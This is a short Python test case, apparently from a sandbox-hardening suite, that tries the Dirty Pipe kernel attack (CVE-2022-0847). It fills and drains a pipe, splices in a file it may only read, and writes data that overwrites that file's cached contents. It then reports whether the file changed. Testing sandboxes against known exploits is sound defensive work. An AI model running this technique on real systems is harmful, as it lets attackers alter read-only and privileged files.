"""Splices a file that it may only read into a pipe and writes there.

stopped_by: a kernel that was fixed (CVE-2022-0847)
plain bwrap: stopped
"""

import os

from tools import data_file


def attack():
    read, write = os.pipe()
    while True:  # so that every buffer of the pipe has been used
        os.set_blocking(write, False)
        try:
            os.write(write, bytes(4096))
        except BlockingIOError:
            break
    os.read(read, 1 << 20)
    with open(data_file(), "rb") as file:
        before = file.read(16)
        if hasattr(os, "splice"):
            os.splice(file.fileno(), write, 1, offset_src=0)
        os.write(write, b"changed")
    with open(data_file(), "rb") as file:
        return float(file.read(16) != before)
